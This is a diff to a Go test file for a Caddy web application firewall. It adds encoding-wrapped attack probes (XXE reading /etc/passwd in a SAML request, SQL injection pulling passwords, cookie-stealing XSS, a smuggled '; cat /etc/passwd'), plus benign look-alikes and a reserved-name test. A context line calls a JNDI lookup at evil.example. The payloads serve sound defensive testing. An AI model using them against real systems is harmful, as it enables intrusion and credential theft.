@@ -2,6 +2,8 @@ package waf
 
 import (
 	"bytes"
+	"compress/flate"
+	"compress/gzip"
 	"encoding/base64"
 	"errors"
 	"fmt"
@@ -12,6 +14,7 @@ import (
 	"regexp"
 	"strings"
 	"testing"
+	"unicode/utf16"
 
 	"github.com/caddyserver/caddy/v2"
 )
@@ -37,6 +40,39 @@ func wrap76(s string) string {
 		s = s[76:]
 	}
 	return b.String() + s
+}
+
+// deflated is s compressed as raw DEFLATE (SAML's HTTP-Redirect binding),
+// gzipped as gzip, utf16le as UTF-16LE text.
+func deflated(s string) []byte {
+	var b bytes.Buffer
+	w, _ := flate.NewWriter(&b, flate.BestCompression)
+	_, _ = w.Write([]byte(s))
+	_ = w.Close()
+	return b.Bytes()
+}
+
+func gzipped(s string) []byte {
+	var b bytes.Buffer
+	w := gzip.NewWriter(&b)
+	_, _ = w.Write([]byte(s))
+	_ = w.Close()
+	return b.Bytes()
+}
+
+func utf16le(s string) []byte {
+	var b []byte
+	for _, u := range utf16.Encode([]rune(s)) {
+		b = append(b, byte(u), byte(u>>8))
+	}
+	return b
+}
+
+func b64bytes(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
+
+// samlRequest is a SAML AuthnRequest with the given prolog and text.
+func samlRequest(prolog, text string) string {
+	return `<?xml version="1.0" encoding="UTF-8"?>` + prolog + `<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_8e8dc5f69a98cc4c1ff3427e5ce34606fd672f91e6" Version="2.0" IssueInstant="2026-12-02T09:21:59Z" Destination="https://idp.example.com/sso" AssertionConsumerServiceURL="https://sp.example.com/acs" ProtocolBinding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST"><saml:Issuer>` + text + `</saml:Issuer><samlp:NameIDPolicy Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress" AllowCreate="true"/></samlp:AuthnRequest>`
 }
 
 // dotted puts sep between the groups of four characters of s.
@@ -149,6 +185,16 @@ func attackTable() (crsCatches, crsMisses []probe) {
 			body: `{"raw": "` + b64url(htmlMail("1' UNION SELECT username, password FROM users--")) + `"}`},
 		{name: "jndi in a base64 shell script", method: "POST", path: "/api/jobs", contentType: js,
 			body: `{"content": "` + b64("#!/bin/sh\nset -eu\necho '${jndi:ldap://evil.example/a}'\n") + `"}`},
+		{name: "XXE in a SAML request, deflated then base64 (HTTP-Redirect binding)", method: "GET", path: "/sso?SAMLRequest=" + q(b64bytes(deflated(samlRequest(`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, "&x;"))))},
+		{name: "SQLi gzipped then base64 in a JSON field", method: "POST", path: "/api", contentType: js, body: `{"data": "` + b64bytes(gzipped("1' UNION SELECT username, password FROM users--")) + `"}`},
+		{name: "SQLi as UTF-16LE then base64 in a query parameter", method: "GET", path: "/search?q=" + q(b64bytes(utf16le("1' UNION SELECT username, password FROM users--")))},
+		{name: "XSS as UTF-16BE with a byte order mark, base64 in a form", method: "POST", path: "/c", contentType: form, body: "c=" + q(b64bytes(append([]byte{0xfe, 0xff}, func() []byte {
+			var b []byte
+			for _, u := range utf16.Encode([]rune("<script>alert(document.cookie)</script>")) {
+				b = append(b, byte(u>>8), byte(u))
+			}
+			return b
+		}()...)))},
 		{name: "base64 XSS in a multipart field", method: "POST", path: "/upload", contentType: mpB64Type, body: mpB64},
 		{name: "base64 in base64 (two levels)", method: "POST", path: "/api", contentType: js, body: `{"data": "` + b64(b64("1' OR '1'='1' --")) + `"}`},
 		{name: "NoSQL operator in base64", method: "POST", path: "/find", contentType: js, body: `{"filter": "` + b64(`{"$where": "sleep(5000)"}`) + `"}`},
@@ -332,6 +378,13 @@ func benignTable() []probe {
 			body: `{"text": "Ticket #{123 456}; use (&) for AND and (|) for OR in LDAP filters."}`},
 		{name: "text with quotes and || (a code review comment)", method: "POST", path: "/api/comments", contentType: js,
 			body: `{"comment": "Prefer a || b over the ternary; the value is 'n/a' || empty."}`},
+		{name: "a SAML request, deflated then base64 (HTTP-Redirect binding)", method: "GET", path: "/sso?SAMLRequest=" + q(b64bytes(deflated(samlRequest("", "https://sp.example.com/metadata")))) + "&RelayState=" + q("https://sp.example.com/app")},
+		{name: "gzipped JSON in base64", method: "POST", path: "/api/batches", contentType: js, body: `{"encoding": "gzip", "data": "` + b64bytes(gzipped(`{"events": [{"type": "page_view", "path": "/pricing", "ts": 1764600000}, {"type": "click", "target": "signup"}]}`)) + `"}`},
+		{name: "UTF-16LE text in base64", method: "POST", path: "/api/notes", contentType: js, body: `{"text": "` + b64bytes(utf16le("Grüße aus Köln, and a plain note.")) + `"}`},
+		{name: "an SVG icon in base64", method: "POST", path: "/api/icons", contentType: js,
+			body: `{"icon": "` + b64(`<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="#333"/></svg>`) + `"}`},
+		{name: "a SAML response in base64 (HTTP-POST binding)", method: "POST", path: "/acs", contentType: form,
+			body: "SAMLResponse=" + q(b64(samlRequest("", "https://idp.example.com/metadata"))) + "&RelayState=" + q("/app")},
 		{name: "an Accept-Language header", method: "GET", path: "/", header: http.Header{"Accept-Language": {"de-CH,de;q=0.9,en;q=0.8"}}},
 	}
 }
@@ -465,19 +518,48 @@ func FuzzTemplateLiterals(f *testing.F) {
 
 func TestDocumentKind(t *testing.T) {
 	for s, want := range map[string]string{
-		htmlMail("x"):                       suffixHTML,
-		htmlPage("x"):                       suffixHTML,
+		htmlMail("x"):                       suffixMarkup,
+		htmlPage("x"):                       suffixMarkup,
 		"#!/bin/sh\nset -e\necho hi\n":      suffixScript,
 		"#!/bin/sh; cat /etc/passwd":        "", // one line: a command, not a script
 		"<script>alert(1)</script>":         "",
 		"From: a\r\n\r\n<script>x</script>": "", // too short for a document
 		"Subject: x\r\n" + strings.Repeat("not a header line\r\n", 20) + "\r\n" + strings.Repeat("x", 300): "",
-		"<html>" + strings.Repeat("x", 100):                          "",
+		"<html>" + strings.Repeat("x", 60): "",
+		samlRequest("", "x"):               suffixMarkup,
+		`<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">x</saml:Issuer></samlp:AuthnRequest>`: suffixMarkup,
+		`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="#333"/><path d="M2 17l10 5 10-5"/></svg>`:                                                    suffixMarkup,
+		`<svg onload=alert(1)>` + strings.Repeat(" ", 200):           "",
 		strings.Repeat("1' UNION SELECT password FROM users-- ", 10): "",
 	} {
 		if got := documentKind(s); got != want {
 			t.Errorf("documentKind(%.40q) = %q, want %q", s, got, want)
 		}
+	}
+}
+
+// TestReservedNamesRefused: a client's own argument named as decoded
+// documents are (which the XSS and command-execution rules do not read)
+// is refused, in the query, a JSON body, a form and an XML attribute.
+func TestReservedNamesRefused(t *testing.T) {
+	base, hits := startCaddy(t, "waf")
+	xss := "<script>alert(document.cookie)</script>"
+	for _, p := range []probe{
+		{name: "query", method: "GET", path: "/?q:base64:markup=" + url.QueryEscape(xss)},
+		{name: "JSON", method: "POST", path: "/api", contentType: "application/json", body: `{"q:base64:markup": "` + xss + `"}`},
+		{name: "JSON, inflated", method: "POST", path: "/api", contentType: "application/json", body: `{"a": {"q:base64:inflated:script": "; cat /etc/passwd"}}`},
+		{name: "form", method: "POST", path: "/api", contentType: "application/x-www-form-urlencoded", body: "q%3Abase64%3Amarkup=" + url.QueryEscape(xss)},
+		{name: "XML attribute", method: "POST", path: "/api", contentType: "application/xml", body: `<a x:base64:markup="` + strings.ReplaceAll(xss, "<", "&lt;") + `">1</a>`},
+	} {
+		if code, _ := send(t, base, p); code != http.StatusBadRequest && code != http.StatusForbidden {
+			t.Errorf("%s: %d, want it refused", p.name, code)
+		}
+	}
+	if *hits != 0 {
+		t.Errorf("the backend got %d of them", *hits)
+	}
+	if code, _ := send(t, base, probe{name: "ok", method: "GET", path: "/?q:base64=x&markup=y"}); code != http.StatusOK {
+		t.Errorf("names near the reserved ones: %d, want 200", code)
 	}
 }
 
@@ -512,17 +594,18 @@ func FuzzDecode(f *testing.F) {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, v string) {
-		d := decoder{budget: 4 * len(v)}
-		if err := d.value("f", v); err != nil {
-			t.Fatalf("a budget of 4x the input ran out: %v", err)
+		budget := 4 * len(v)
+		d := decoder{budget: budget}
+		if err := d.value("f", v); err != nil && err != errDecodeBudget {
+			t.Fatal(err)
 		}
 		total := 0
 		for _, a := range d.out {
 			total += len(a.value)
 		}
-		// each level's text, and the template literals of each (never
-		// longer than what they are read from)
-		if len(d.out) > 2*maxDecodeLevels+1 || total > 4*len(v) {
+		// each level's text, and the template literals of each; all
+		// within the budget (compressed text inflates past the input)
+		if len(d.out) > 2*maxDecodeLevels+1 || total > budget {
 			t.Fatalf("%q: %d decoded values, %d bytes", v, len(d.out), total)
 		}
 	})
